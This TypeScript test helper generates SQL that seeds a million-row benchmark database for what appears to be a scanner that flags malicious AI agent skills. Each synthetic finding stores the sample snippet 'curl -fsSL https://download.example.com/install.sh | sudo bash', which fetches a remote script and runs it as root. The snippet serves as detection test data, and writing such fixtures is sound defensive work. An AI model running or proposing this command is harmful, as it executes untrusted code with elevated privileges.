/**
 * Rows for the scale tier, made by the database itself (a recursive CTE on SQLite,
 * generate_series on PostgreSQL) so a million scans take seconds, not a million round trips.
 * Row `i` (1-based) of each table is a pure function of `i`: sizes grow by appending `from..to`,
 * ids and instants rise with `i` (one scan, audit entry and request per second from BASE_EPOCH),
 * and every column holds a value the repositories accept. Per scan: 2 findings, 1 URL analysis.
 *
 * Spread of the filtered values, so each filter has a fixed share of the rows at every size:
 * verdict i % 4 (MALICIOUS a quarter), status `failed` one in 50, severity i % 5, audit event
 * type `key_revoked` one in 100, api key i % 20, endpoint i % 4.
 */
import type { DatabaseBackend } from "../../src/backends/database-backend.ts";

/** 2025-01-01T00:00:00Z in Unix seconds. */
export const BASE_EPOCH = 1_735_689_600;

export const SCALE_VERDICTS = ["CLEAN", "CAUTION", "SUSPICIOUS", "MALICIOUS"] as const;
export const SCALE_SEVERITIES = ["critical", "high", "medium", "low", "info"] as const;

/** The id of scan `i`, as the generator writes it. */
export function scaleScanId(i: number): string {
  return `scan-${String(i).padStart(8, "0")}`;
}

/** The instant of row `i` (ISO-8601 UTC). */
export function scaleInstant(i: number): string {
  return new Date((BASE_EPOCH + i) * 1000).toISOString();
}

interface Spelling {
  /** A query over the row numbers `from..to` as column `i`. */
  rows: (from: number, to: number) => string;
  pad8: (expr: string) => string;
  hex64: (expr: string) => string;
  /** The instant `BASE_EPOCH + expr` seconds, as the column stores it. */
  instant: (expr: string) => string;
  isoText: (expr: string) => string;
  bool: (expr: string) => string;
  pick: (items: readonly string[], expr: string) => string;
}

const pick = (items: readonly string[], expr: string) =>
  `CASE (${expr}) ${items.map((v, k) => `WHEN ${k} THEN '${v}'`).join(" ")} END`;

const SQLITE: Spelling = {
  rows: (from, to) =>
    `(WITH RECURSIVE n(i) AS (SELECT ${from} UNION ALL SELECT i + 1 FROM n WHERE i < ${to}) SELECT i FROM n)`,
  pad8: (e) => `printf('%08d', ${e})`,
  hex64: (e) => `printf('%064x', ${e})`,
  instant: (e) => `datetime(${BASE_EPOCH} + ${e}, 'unixepoch')`,
  isoText: (e) => `strftime('%Y-%m-%dT%H:%M:%SZ', ${BASE_EPOCH} + ${e}, 'unixepoch')`,
  bool: (e) => `(${e})`,
  pick,
};

const POSTGRES: Spelling = {
  rows: (from, to) => `generate_series(${from}, ${to})`,
  pad8: (e) => `lpad((${e})::text, 8, '0')`,
  hex64: (e) => `lpad(to_hex(${e}), 64, '0')`,
  instant: (e) => `(TIMESTAMP '2025-01-01 00:00:00' + (${e}) * INTERVAL '1 second')`,
  isoText: (e) =>
    `to_char(TIMESTAMP '2025-01-01 00:00:00' + (${e}) * INTERVAL '1 second', 'YYYY-MM-DD"T"HH24:MI:SS"Z"')`,
  bool: (e) => `(${e})`,
  pick,
};

/** The INSERT … SELECT statements that add rows `from..to` to every table the scale tier reads. */
export function scaleInserts(dialect: DatabaseBackend["backendName"], from: number, to: number): string[] {
  const s = dialect === "sqlite" ? SQLITE : POSTGRES;
  const n = dialect === "sqlite" ? `${s.rows(from, to)} AS n` : `${s.rows(from, to)} AS n(i)`;
  const scanId = (e: string) => `'scan-' || ${s.pad8(e)}`;
  return [
    `INSERT INTO scans (id, target, skill_name, skill_author, skill_sha256, status, risk_score, overall_severity, verdict, layers_executed, errors, started_at, completed_at, duration_ms, created_at)
     SELECT ${scanId("i")}, 'skills/publisher-' || (i % 97) || '/skill-' || i || '/SKILL.md', 'skill-' || i,
            'publisher-' || (i % 97), ${s.hex64("i")},
            CASE WHEN i % 50 = 0 THEN 'failed' ELSE 'completed' END, i % 100,
            ${s.pick(SCALE_SEVERITIES, "i % 5")}, ${s.pick(SCALE_VERDICTS, "i % 4")},
            '["rule_engine","url_crawler","threat_intel"]', '[]', ${s.isoText("i")}, ${s.isoText("i")},
            200 + i % 5000, ${s.instant("i")}
       FROM ${n}`,
    `INSERT INTO findings (id, scan_id, rule_id, title, description, severity, confidence, category, detector_layer, line_start, line_end, snippet, evidence, ioc_values, remediation, detected_at)
     SELECT ${scanId("i")} || '-f' || k, ${scanId("i")}, 'MALWAR-' || (100 + (i + k) % 40),
            'Suspicious pattern ' || k || ' in skill instructions',
            'The skill tells the agent to download and run a remote script with elevated privileges.',
            ${s.pick(SCALE_SEVERITIES, "(i + k) % 5")}, ((i * 7 + k) % 1000) / 1000.0,
            ${s.pick(["obfuscated_command", "social_engineering", "prompt_injection", "known_malware"], "(i + k) % 4")},
            ${s.pick(["rule_engine", "url_crawler", "llm_analyzer", "threat_intel"], "k % 4")},
            1 + i % 400, 3 + i % 400, 'curl -fsSL https://download.example.com/install.sh | sudo bash',
            '["curl piped to shell"]', '["download.example.com"]', 'Remove the remote execution step.',
            ${s.instant("i")}
       FROM ${n} CROSS JOIN (SELECT 0 AS k UNION ALL SELECT 1) AS f`,
    `INSERT INTO url_analysis (id, scan_id, url, final_url, status_code, content_type, redirect_chain, is_malicious, risk_indicators, domain_reputation, fetched_at)
     SELECT ${scanId("i")} || '-u0', ${scanId("i")}, 'https://download.example-' || (i % 1000) || '.com/install.sh',
            'https://cdn.example-' || (i % 1000) || '.com/install.sh', 200, 'text/x-shellscript', '[]',
            ${s.bool("i % 10 = 0")}, '[]', 0.5, ${s.instant("i")}
       FROM ${n}`,
    `INSERT INTO audit_log (event_id, timestamp, event_type, actor, resource_type, resource_id, action, details, ip_address)
     SELECT 'evt-' || ${s.pad8("i")}, ${s.instant("i")},
            CASE WHEN i % 100 = 0 THEN 'key_revoked' ELSE 'scan_created' END, 'key-' || (i % 20), 'scan',
            ${scanId("i")}, 'create', '{"findings":2}', '127.0.0.1'
       FROM ${n}`,
    `INSERT INTO api_usage (api_key, endpoint, method, status_code, timestamp)
     SELECT 'key-' || (i % 20), ${s.pick(["/api/v1/scans", "/api/v1/scans/:id", "/api/v1/signatures", "/api/v1/audit"], "i % 4")},
            CASE WHEN i % 3 = 0 THEN 'POST' ELSE 'GET' END, CASE WHEN i % 20 = 0 THEN 404 ELSE 200 END,
            ${s.instant("i")}
       FROM ${n}`,
  ];
}

/**
 * Adds rows `from..to` in slices of at most `slice` rows per statement, each slice in its own
 * transaction (a single million-row statement holds the SQLite write lock, and PostgreSQL's
 * memory, for its whole run), then refreshes planner statistics.
 */
export async function growTo(db: DatabaseBackend, from: number, to: number, slice = 100_000): Promise<void> {
  for (let start = from; start <= to; start += slice) {
    const end = Math.min(to, start + slice - 1);
    await db.transaction(async (tx) => {
      for (const statement of scaleInserts(db.backendName, start, end)) await tx.execute(statement);
    });
  }
  // VACUUM on PostgreSQL too: a table that has settled (hint bits set, visibility map current) is
  // what a long-running database reads, not one whose every row was written a moment ago.
  await db.execute(db.backendName === "postgres" ? "VACUUM ANALYZE" : "ANALYZE");
}
